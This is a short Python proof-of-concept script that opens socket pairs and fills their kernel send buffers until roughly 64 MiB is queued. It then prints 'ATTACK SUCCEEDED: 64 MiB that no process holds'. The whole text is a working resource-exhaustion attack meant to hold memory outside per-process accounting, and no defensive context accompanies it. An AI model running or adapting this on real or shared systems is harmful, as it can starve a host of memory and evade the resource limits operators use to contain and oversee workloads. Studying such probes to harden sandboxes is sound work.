import socket

held, taken = [], 0
while taken < 2**26:
    pair = socket.socketpair()
    held.append(pair)
    for end in pair:
        end.setblocking(False)
        try:
            while True:
                taken += end.send(b"x" * 2**16)
        except BlockingIOError:
            pass
print("ATTACK SUCCEEDED: 64 MiB that no process holds")
